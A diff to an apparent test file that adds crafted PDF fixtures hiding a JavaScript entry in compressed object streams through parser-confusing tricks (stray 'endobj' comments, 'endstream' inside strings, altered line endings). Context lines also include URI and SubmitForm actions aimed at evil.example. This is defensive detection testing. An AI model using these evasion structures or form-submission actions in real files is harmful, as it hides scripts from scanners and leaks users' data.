@@ -77,6 +77,28 @@ HOSTILE = {
             + b"\nendstream",
         )
     ),
+    "packed, an end in a comment": pdf(
+        further=(packed(b"8 0 <</JS(x)>>", described=b"/Type/ObjStm/First 4/Filter/FlateDecode\n%endobj\n"),)
+    ),
+    "packed, an end in a text": pdf(
+        further=(
+            packed(b"8 0 <</JS(x)>>", described=b"/Type/ObjStm/First 4/Filter/FlateDecode/X(endstream)"),
+        )
+    ),
+    "packed, under another object": pdf(
+        further=(b"<</Type/ObjStm/First 4/Filter/FlateDecode", packed(b"8 0 <</JS(x)>>", described=b"/A 1"))
+    ),
+    "packed, a blank behind": pdf(further=(packed(b"8 0 <</JS(x)>>").replace(b"stream\n", b"stream \n", 1),)),
+    "packed, another line end": pdf(
+        further=(packed(b"8 0 <</JS(x)>>").replace(b"stream\n", b"stream\r", 1),)
+    ),
+    "packed, an end in it": pdf(
+        further=(
+            b"<</Type/ObjStm/First 4/Filter/FlateDecode>>stream\n"
+            + zlib.compress(b"endstream" + b"8 0 <</JS(x)>>", 0)
+            + b"\nendstream",
+        )
+    ),
     "encrypted": pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 7 0 R"),
     "opened": pdf(action=b"<</S/URI/URI(https://evil.example)>>"),
     "sent": pdf(further=(b"<</S/SubmitForm/F(https://evil.example)>>",)),
